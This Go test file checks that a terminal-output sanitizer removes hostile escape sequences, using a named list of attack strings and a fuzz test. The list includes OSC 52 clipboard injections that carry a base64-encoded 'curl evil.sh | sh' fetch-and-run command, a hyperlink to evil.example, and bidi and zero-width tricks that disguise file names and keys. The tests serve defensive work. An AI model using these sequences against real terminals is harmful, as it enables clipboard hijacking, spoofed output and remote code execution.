package probe

import (
	"encoding/json"
	attack "github.com/fix401/fix401/probe/hostile"
	"strings"
	"testing"
)

// hostile holds what a project file, a variable or a server may carry to
// drive a terminal: each entry is one attack, named.
var hostile = map[string]string{
	"osc52 clipboard (BEL)":  "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
	"osc52 clipboard (ST)":   "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\",
	"title change":           "\x1b]0;pwned\x07",
	"hyperlink":              "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
	"screen clear":           "\x1b[2J\x1b[H",
	"colour":                 "\x1b[38;5;196mred\x1b[0m",
	"cursor up":              "\x1b[3A",
	"private mode":           "\x1b[?1049h",
	"dcs":                    "\x1bP1$qm\x1b\\",
	"apc":                    "\x1b_payload\x1b\\",
	"reset":                  "\x1bc",
	"charset":                "\x1b(0",
	"lone esc":               "\x1b",
	"c1 csi":                 "\u009b2J",
	"c1 osc":                 "\u009d52;c;eA==\u009c",
	"c1 nel":                 "\u0085",
	"raw 0x9b byte":          "\x9b2J",
	"bell and backspace":     "\a\b\b\b",
	"carriage return":        "ok\rFAIL",
	"del":                    "\x7f",
	"nul":                    "\x00",
	"rlo":                    "\u202egnp.exe",
	"bidi isolates":          "\u2066\u2067\u2068\u2069",
	"lrm rlm alm":            "\u200e\u200f\u061c",
	"embeddings":             "\u202a\u202b\u202c\u202d",
	"zero width space":       "sk-ant-\u200bapi03",
	"unterminated osc":       "\x1b]0;title without end",
	"csi cut short":          "\x1b[38;5",
	"esc before non-ascii":   "\x1bé",
	"nested introducers":     "\x1b]\x1b[2J",
	"c1 string in osc":       "\x1b]0;x\u009b2J",
	"invalid utf8 then csi":  "\xff\x1b[2J",
	"backslash-u in text":    `\u001b[2J`, // text, not a control: kept
	"bidi in a version":      "^0.30.0\u202e1.0",
	"osc in the middle":      "anthropic==\x1b]52;c;eA==\x070.40.0",
	"cursor save and return": "\x1b7\x1b8",
}

func TestSanitizeDropsEveryAttack(t *testing.T) {
	for name, in := range hostile {
		for _, wrap := range []string{"%s", "before %s after", "line one\n%s\nline two"} {
			s := strings.Replace(wrap, "%s", in, 1)
			out := Sanitize(s)
			if what, ok := attack.Bad(out); ok {
				t.Errorf("%s: Sanitize(%q) = %q holds a %s", name, s, out, what)
			}
			if Sanitize(out) != out {
				t.Errorf("%s: Sanitize is not idempotent on %q", name, s)
			}
			// A sequence goes whole, the text before it stays; a sequence
			// left open may take the text after it on its line (a terminal
			// would take more), never the next line.
			for _, kept := range []string{"before ", "line one\n", "\nline two"} {
				if strings.Contains(s, kept) && !strings.Contains(out, kept) {
					t.Errorf("%s: Sanitize(%q) = %q lost %q", name, s, out, kept)
				}
			}
		}
	}
}

func TestSanitizeExact(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"plain text, tabs\tand\nnewlines, ünïcödé, emoji 👍, box ─│", "plain text, tabs\tand\nnewlines, ünïcödé, emoji 👍, box ─│"},
		{"a\x1b]52;c;Y3VybA==\x07b", "ab"},
		{"a\x1b]0;title\x1b\\b", "ab"},
		{"a\x1b[2Jb", "ab"},
		{"a\x1b[38;5;196mred\x1b[0mb", "aredb"},
		{"a\u009b2Jb", "ab"},
		{"a\u009d0;t\u009cb", "ab"},
		{"\u202egnp.exe", "gnp.exe"},
		{"ok\rFAIL", "okFAIL"},
		{"\x1b]0;open\nnext line", "0;open\nnext line"}, // a string left open loses its introducer only
		{"v1\u009d (go.mod:3); v2\u0085", "v1 (go.mod:3); v2"},
		{"v1\x1bP (go.mod:3)", "v1 (go.mod:3)"},
		{"a\x1bcb", "ab"},
		{"a\x1b(0b", "ab"},
		{"a\x1b", "a"},
		{"a\xffb", "a\uFFFDb"},
		{"a\x9b2Jb", "a\uFFFD2Jb"}, // not UTF-8: shown, never sent raw
		{"sk-ant-\u200bapi03", "sk-ant-api03"},
		{`\u001b[2J`, `\u001b[2J`},
	} {
		if got := Sanitize(tt.in); got != tt.want {
			t.Errorf("Sanitize(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestStyledKeepsOnlyColour: fix401's own colours survive Styled; every
// other sequence goes, as with Sanitize.
func TestStyledKeepsOnlyColour(t *testing.T) {
	red := NewRedactor()
	in := "\x1b[1;38;2;255;0;0mtitle\x1b[0m \x1b[m" + hostile["osc52 clipboard (BEL)"] + hostile["screen clear"] + hostile["c1 csi"] + hostile["rlo"]
	want := "\x1b[1;38;2;255;0;0mtitle\x1b[0m \x1b[m" + "gnp.exe"
	if got := red.Styled(in); got != want {
		t.Errorf("Styled(%q) = %q, want %q", in, got, want)
	}
	if got := red.String(in); got != "title gnp.exe" {
		t.Errorf("String(%q) = %q: String keeps no sequence at all", in, got)
	}
}

// TestRedactorJSONSanitizesStrings: a control character inside a JSON
// string is escaped in the document, so only a decoding reader would print
// it; JSON sanitizes the decoded strings, keys included, and keeps the
// document valid.
func TestRedactorJSONSanitizesStrings(t *testing.T) {
	in := map[string]any{"version": "^1.0" + hostile["osc52 clipboard (BEL)"], "name\x1b[2J": hostile["rlo"],
		"n": 3, "ok": true, "list": []string{"<a&b>", "plain", hostile["c1 csi"] + "x"}}
	doc, err := NewRedactor().JSON(in)
	if err != nil {
		t.Fatal(err)
	}
	var back map[string]any
	if err := json.Unmarshal([]byte(doc), &back); err != nil {
		t.Fatalf("not JSON any more: %v\n%s", err, doc)
	}
	var walk func(v any)
	walk = func(v any) {
		switch v := v.(type) {
		case string:
			if what, ok := attack.Bad(v); ok {
				t.Errorf("decoded string %q holds a %s", v, what)
			}
		case []any:
			for _, e := range v {
				walk(e)
			}
		case map[string]any:
			for k, e := range v {
				walk(k)
				walk(e)
			}
		}
	}
	walk(back)
	if back["version"] != "^1.0" || back["name"] != "gnp.exe" || back["list"].([]any)[2] != "x" {
		t.Errorf("sanitized values: %v", back)
	}
	// Untouched strings keep encoding/json's own form.
	if !strings.Contains(doc, `"\u003ca\u0026b\u003e"`) || !strings.Contains(doc, "\n  \"n\": 3,") {
		t.Errorf("the document changed beyond its hostile strings:\n%s", doc)
	}
	clean := map[string]any{"a": "b\nc", "d": []int{1, 2}, "e": "é"}
	want, _ := json.MarshalIndent(clean, "", "  ")
	if got, _ := NewRedactor().JSON(clean); got != string(want) {
		t.Errorf("a clean document changed:\n%s\nwant\n%s", got, want)
	}
}

func TestRedactorWriter(t *testing.T) {
	var b strings.Builder
	w := NewRedactor().Writer(&b)
	for _, p := range []string{"GET /v1/models\u202e 200\n", "GET /\x1b]0;x\x07 404\n", "half \x1b", "[2J\n"} {
		if n, err := w.Write([]byte(p)); n != len(p) || err != nil {
			t.Fatalf("Write(%q) = %d, %v", p, n, err)
		}
	}
	if what, ok := attack.Bad(b.String()); ok {
		t.Errorf("the writer let a %s through: %q", what, b.String())
	}
}

func FuzzSanitize(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := Sanitize(s)
		if what, ok := attack.Bad(out); ok {
			t.Fatalf("Sanitize(%q) = %q holds a %s", s, out, what)
		}
		if Sanitize(out) != out {
			t.Fatalf("not idempotent: %q -> %q -> %q", s, out, Sanitize(out))
		}
		styled := NewRedactor().Styled(s)
		if what, ok := attack.Bad(stripSGR(styled)); ok {
			t.Fatalf("Styled(%q) = %q holds a %s besides colour", s, styled, what)
		}
	})
}

// stripSGR removes the colour sequences Styled may keep.
func stripSGR(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); {
		if s[i] == 0x1b {
			if j := escEnd(s, i); isSGR(s[i:j]) {
				i = j
				continue
			}
		}
		b.WriteByte(s[i])
		i++
	}
	return b.String()
}
